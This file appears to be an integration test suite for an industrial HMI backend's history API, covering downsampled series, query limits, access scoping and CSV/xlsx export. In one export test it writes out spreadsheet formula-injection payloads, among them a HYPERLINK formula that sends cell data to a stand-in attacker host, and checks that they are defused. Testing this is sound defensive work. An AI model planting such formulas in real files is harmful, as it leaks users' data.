import {
  ErrorCode,
  MONITOR_TAG_ID_BASE,
  Perm,
  type HistoryRow,
  type HistorySeriesReply,
  type HistoryTagsReply,
} from '@hmi/domain';
import ExcelJS from 'exceljs';
import type { MqttClient } from 'mqtt';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createSubAccount } from '../../../test/factories.ts';
import { NO_BILLING, type TestServer } from '../../../test/test-server.ts';
import { startDeviceTestServer } from '../device/device-test-factories.ts';
import { connectDevice, readAll, teamWithTemplate, type Tags } from '../ingest/live-data-test-helpers.ts';

/*
 * History reads through HTTP over rows written by the ingest pipeline from a plain MQTT client:
 * downsampled series checked bucket by bucket against the raw rows, limits, export, scope.
 */
let server: TestServer;
let team: Awaited<ReturnType<typeof teamWithTemplate>>;
let token: string;
let tags: Tags;
let deviceId: number;
let client: MqttClient;
const HOUR = 3600_000;
let t0: number;
const SPAN = 3 * HOUR;

/** A deterministic pseudo-random sequence (the test must be reproducible). */
function random(seed: number) {
  let s = seed;
  return () => (s = (s * 1103515245 + 12345) % 2 ** 31) / 2 ** 31;
}

beforeAll(async () => {
  server = await startDeviceTestServer({ INGEST_BATCH_MS: '10', ...NO_BILLING });
  team = await teamWithTemplate(server);
  token = team.token;
  tags = team.tags;
  const d = await connectDevice(server, token, team.template.id);
  deviceId = d.id;
  client = d.client;
  // 3 hours of irregular samples of speed (with gaps and nulls) and temp, in many messages,
  // the second half published first, so that minutes are aggregated across batches.
  t0 = Date.now() + 60_000;
  const next = random(7);
  const samples: { ts: number; v: Record<string, number | null>; hist: boolean }[] = [];
  for (let ts = t0; ts < t0 + SPAN; ts += 1 + Math.floor(next() * 20_000)) {
    const gap = ts > t0 + HOUR && ts < t0 + HOUR + 10 * 60_000;
    if (gap) continue;
    samples.push({
      ts,
      v: {
        [tags.speed]: next() < 0.05 ? null : Math.floor(next() * 60_000),
        [tags.temp]: Math.round(next() * 1e4) / 100 - 20,
      },
      hist: true,
    });
  }
  const half = Math.floor(samples.length / 2);
  const messages = [samples.slice(half), samples.slice(0, half)].flatMap((part) =>
    Array.from({ length: Math.ceil(part.length / 37) }, (_, i) => part.slice(i * 37, (i + 1) * 37)),
  );
  for (const m of messages) await d.data(m);
});
afterAll(async () => {
  await client?.endAsync(true);
  await server?.close();
});

const series = (q: string, t = token) =>
  server.call<HistorySeriesReply>('GET', `/history/series?${q}`, { token: t });

/** Checks each bucket of `reply` against the raw rows. */
function checkBuckets(reply: HistorySeriesReply, raw: HistoryRow[], tagId: number) {
  const s = reply.series.find((x) => x.tag_id === tagId)!;
  const rows = raw.filter((r) => r.tag_id === tagId && r.ts >= reply.from && r.ts <= reply.to);
  const buckets = new Map<number, HistoryRow[]>();
  for (const r of rows) {
    const t = reply.origin + Math.floor((r.ts - reply.origin) / reply.bucket_ms) * reply.bucket_ms;
    buckets.set(t, [...(buckets.get(t) ?? []), r]);
  }
  expect(s.t).toEqual([...buckets.keys()].sort((a, b) => a - b));
  s.t.forEach((t, i) => {
    const b = buckets.get(t)!;
    const nums = b.map((r) => r.value).filter((v): v is number => typeof v === 'number');
    expect(s.n[i], `n at ${t}`).toBe(b.length);
    expect(s.min[i], `min at ${t}`).toBe(nums.length ? Math.min(...nums) : null);
    expect(s.max[i], `max at ${t}`).toBe(nums.length ? Math.max(...nums) : null);
    expect(s.first[i], `first at ${t}`).toBe(b[0]!.value);
    expect(s.last[i], `last at ${t}`).toBe(b[b.length - 1]!.value);
    expect(s.first_ts[i]).toBe(b[0]!.ts);
    expect(s.last_ts[i]).toBe(b[b.length - 1]!.ts);
  });
  return s;
}

describe('history series', () => {
  it('computes min, max, first and last per bucket exactly from raw rows (buckets under a minute)', async () => {
    const from = t0 + 17_123;
    const to = t0 + 40 * 60_000;
    const raw = await readAll(server, token, deviceId, [tags.speed, tags.temp], from, to);
    expect(raw.length).toBeGreaterThan(100);
    const res = await series(
      `device_id=${deviceId}&tag_ids=${tags.speed},${tags.temp}&from=${from}&to=${to}&width=300`,
    );
    expect(res.body.code).toBe(0);
    const reply = res.body.data;
    expect(reply).toMatchObject({ source: 'raw', from, to, origin: from });
    expect(reply.bucket_ms).toBeLessThan(60_000);
    expect(reply.series.find((s) => s.tag_id === tags.speed)!.t.length).toBeLessThanOrEqual(150);
    checkBuckets(reply, raw, tags.speed);
    checkBuckets(reply, raw, tags.temp);
  });

  it('computes the same from the minute rollups over a long range (buckets of whole minutes)', async () => {
    const from = t0 - 30_000;
    const to = t0 + SPAN + 5 * 60_000;
    const raw = await readAll(server, token, deviceId, [tags.speed, tags.temp], from - 60_000, to + 60_000);
    const res = await series(
      `device_id=${deviceId}&tag_ids=${tags.speed},${tags.temp}&from=${from}&to=${to}&width=100`,
    );
    expect(res.body.code).toBe(0);
    const reply = res.body.data;
    expect(reply.source).toBe('rollup');
    expect(reply.bucket_ms % 60_000).toBe(0);
    expect(reply.from).toBe(from - (from % 60_000));
    expect(reply.series[0]!.t.length).toBeLessThanOrEqual(50);
    const speed = checkBuckets(reply, raw, tags.speed);
    checkBuckets(reply, raw, tags.temp);
    // The 10-minute gap shows as missing buckets or fewer samples, never invented values.
    expect(speed.n.reduce((a, b) => a + b, 0)).toBe(raw.filter((r) => r.tag_id === tags.speed).length);
  });

  it('answers 1035 beyond the limits and 1006 for malformed queries', async () => {
    const q = (extra: string) => series(`device_id=${deviceId}&from=${t0}&to=${t0 + HOUR}&${extra}`);
    expect(
      (await q(`tag_ids=${Array.from({ length: 11 }, (_, i) => i + 1).join(',')}&width=100`)).body.code,
    ).toBe(ErrorCode.E1035_HISTORY_QUERY_LIMIT);
    expect((await q(`tag_ids=${tags.speed}&width=5000`)).body.code).toBe(ErrorCode.E1035_HISTORY_QUERY_LIMIT);
    const year = await series(
      `device_id=${deviceId}&tag_ids=${tags.speed}&from=0&to=${400 * 24 * HOUR}&width=100`,
    );
    expect(year.body.code).toBe(ErrorCode.E1035_HISTORY_QUERY_LIMIT);
    const deep = await server.call(
      'GET',
      `/history/raw?device_id=${deviceId}&tag_ids=${tags.speed}&from=${t0}&to=${t0 + HOUR}&page=101&page_size=1000`,
      { token },
    );
    expect(deep.body.code).toBe(ErrorCode.E1035_HISTORY_QUERY_LIMIT);
    expect((await q(`tag_ids=abc&width=100`)).body.code).toBe(ErrorCode.E1006_BAD_PARAMETER);
    expect((await series(`device_id=${deviceId}&tag_ids=1&from=10&to=5&width=100`)).body.code).toBe(
      ErrorCode.E1006_BAD_PARAMETER,
    );
  });

  it('keeps other teams and sub-accounts without the device out (1003), and needs device view (1002)', async () => {
    const q = `device_id=${deviceId}&tag_ids=${tags.speed}&from=${t0}&to=${t0 + HOUR}&width=100`;
    const other = await teamWithTemplate(server);
    expect((await series(q, other.token)).body.code).toBe(ErrorCode.E1003_NO_DATA);
    const noScope = await createSubAccount(server, team.main, {
      permissions: [Perm.DeviceView],
      deviceIds: [],
    });
    expect((await series(q, noScope.tokens.token)).body.code).toBe(ErrorCode.E1003_NO_DATA);
    const noView = await createSubAccount(server, team.main, { permissions: [], deviceIds: [deviceId] });
    expect((await series(q, noView.tokens.token)).body.code).toBe(ErrorCode.E1002_PERMISSION_DENIED);
    const ok = await createSubAccount(server, team.main, {
      permissions: [Perm.DeviceView],
      deviceIds: [deviceId],
    });
    expect((await series(q, ok.tokens.token)).body.code).toBe(0);
    expect(
      (await server.call('GET', `/history/export?${q}&format=csv`, { token: other.token })).body.code,
    ).toBe(ErrorCode.E1003_NO_DATA);
  });
});

describe('history tags', () => {
  it("lists the device's template tags, then its monitor points, within the caller's scope", async () => {
    const added = await server.call('POST', '/device/monitor/add', {
      token,
      body: {
        id: deviceId,
        name: 'pressure',
        data_type: 7,
        rw: 0,
        link: 'Ethernet 1',
        plc_vendor: 'Siemens',
        plc_name: 'S7-1200',
        station: 1,
        component_type: 'word',
        address: 'DB1.DBW10',
        length: 0,
        decimals: 2,
        step: 2,
      },
    });
    expect(added.body.code).toBe(0);
    const reply = await server.call<HistoryTagsReply>('GET', `/history/tags?id=${deviceId}`, { token });
    expect(reply.body.code).toBe(0);
    const list = reply.body.data.tags;
    expect(list.filter((t) => t.source === 'template').map((t) => t.id)).toEqual(
      team.template.tags.map((t) => t.id),
    );
    const last = list[list.length - 1]!;
    expect(last).toMatchObject({ name: 'pressure', source: 'point', data_type: 7, decimals: 2 });
    expect(last.id).toBeGreaterThanOrEqual(MONITOR_TAG_ID_BASE);

    const other = await teamWithTemplate(server);
    expect((await server.call('GET', `/history/tags?id=${deviceId}`, { token: other.token })).body.code).toBe(
      ErrorCode.E1003_NO_DATA,
    );
    const noView = await createSubAccount(server, team.main, { permissions: [], deviceIds: [deviceId] });
    expect(
      (await server.call('GET', `/history/tags?id=${deviceId}`, { token: noView.tokens.token })).body.code,
    ).toBe(ErrorCode.E1002_PERMISSION_DENIED);
  });
});

describe('history export', () => {
  it('streams CSV of every row with times shifted to the user offset', async () => {
    const from = t0;
    const to = t0 + SPAN;
    const raw = await readAll(server, token, deviceId, [tags.speed, tags.temp], from, to);
    const res = await fetch(
      `${server.url}/v1/history/export?device_id=${deviceId}&tag_ids=${tags.speed},${tags.temp}&from=${from}&to=${to}&format=csv&tz=8`,
      { headers: { authorization: token } },
    );
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
    expect(res.headers.get('content-disposition')).toMatch(/attachment; filename="history-\d+-\d+\.csv"/);
    const lines = (await res.text())
      .replace(/^\ufeff/, '')
      .trim()
      .split('\r\n');
    expect(lines[0]).toBe('time (UTC+08:00),tag,tag_id,value');
    expect(lines.length - 1).toBe(raw.length);
    const first = raw[0]!;
    expect(lines[1]).toBe(
      `${new Date(first.ts + 8 * HOUR).toISOString().replace('T', ' ').replace('Z', '')},${first.tag_id === tags.speed ? 'speed' : 'temp'},${first.tag_id},${first.value ?? ''}`,
    );
  });

  it('defuses STRING values a spreadsheet would take for a formula, in CSV and xlsx; numbers stay numbers', async () => {
    const d = await connectDevice(server, token, team.template.id);
    const base = Date.now() + 120_000;
    const link = '=HYPERLINK("https://evil.example/?"&A1,"open")';
    const texts = [link, '\t=1+1', '@SUM(A1:A9)', 'plain'];
    await d.data(
      texts.map((text, i) => ({ ts: base + i, v: { [tags.recipe]: text, [tags.temp]: -5 }, hist: true })),
    );
    const q = `device_id=${d.id}&tag_ids=${tags.recipe},${tags.temp}&from=${base}&to=${base + 10}`;

    const csv = await fetch(`${server.url}/v1/history/export?${q}&format=csv`, {
      headers: { authorization: token },
    });
    const lines = (await csv.text()).trim().split('\r\n').slice(1);
    const cells = lines.map((l) => l.slice(l.indexOf(',') + 1));
    // In time order, then by tag id (temp before recipe).
    expect(cells).toEqual([
      `temp,${tags.temp},-5`,
      `recipe,${tags.recipe},"'=HYPERLINK(""https://evil.example/?""&A1,""open"")"`,
      `temp,${tags.temp},-5`,
      `recipe,${tags.recipe},"'\t=1+1"`,
      `temp,${tags.temp},-5`,
      `recipe,${tags.recipe},"'@SUM(A1:A9)"`,
      `temp,${tags.temp},-5`,
      `recipe,${tags.recipe},plain`,
    ]);

    const xlsx = await fetch(`${server.url}/v1/history/export?${q}&format=xlsx`, {
      headers: { authorization: token },
    });
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(await xlsx.arrayBuffer());
    const values = book
      .getWorksheet('history')!
      .getRows(2, 8)!
      .map((r) => r.getCell(4).value);
    expect(values).toEqual([-5, `'${link}`, -5, "'\t=1+1", -5, "'@SUM(A1:A9)", -5, 'plain']);
    await d.client.endAsync(true);
  });

  it('writes xlsx up to 10,000 rows with local times, and answers 1035 beyond', async () => {
    const from = t0;
    const to = t0 + 20 * 60_000;
    const raw = await readAll(server, token, deviceId, [tags.temp], from, to);
    const res = await fetch(
      `${server.url}/v1/history/export?device_id=${deviceId}&tag_ids=${tags.temp}&from=${from}&to=${to}&tz=-5.5`,
      { headers: { authorization: token } },
    );
    expect(res.status).toBe(200);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(await res.arrayBuffer());
    const sheet = book.getWorksheet('history')!;
    expect(sheet.getRow(1).getCell(1).value).toBe('time (UTC-05:30)');
    expect(sheet.rowCount - 1).toBe(raw.length);
    const cell = sheet.getRow(2).getCell(1).value as Date;
    expect(cell.getTime()).toBe(raw[0]!.ts - 5.5 * HOUR);
    expect(sheet.getRow(2).getCell(4).value).toBe(raw[0]!.value);

    // Over 10,000 rows: 1035 (CSV has no limit).
    const d = await connectDevice(server, token, team.template.id);
    const base = Date.now() + 60_000;
    for (let m = 0; m < 11; m++) {
      await d.data(
        Array.from({ length: 1000 }, (_, i) => ({
          ts: base + (m * 1000 + i) * 10,
          v: { [tags.speed]: i },
          hist: true,
        })),
      );
    }
    const big = await server.call(
      'GET',
      `/history/export?device_id=${d.id}&tag_ids=${tags.speed}&from=${base}&to=${base + HOUR}&format=xlsx`,
      { token },
    );
    expect(big.body.code).toBe(ErrorCode.E1035_HISTORY_QUERY_LIMIT);
    const csv = await fetch(
      `${server.url}/v1/history/export?device_id=${d.id}&tag_ids=${tags.speed}&from=${base}&to=${base + HOUR}&format=csv`,
      { headers: { authorization: token } },
    );
    expect((await csv.text()).trim().split('\r\n').length).toBe(11_001);
    await d.client.endAsync(true);
  });
});
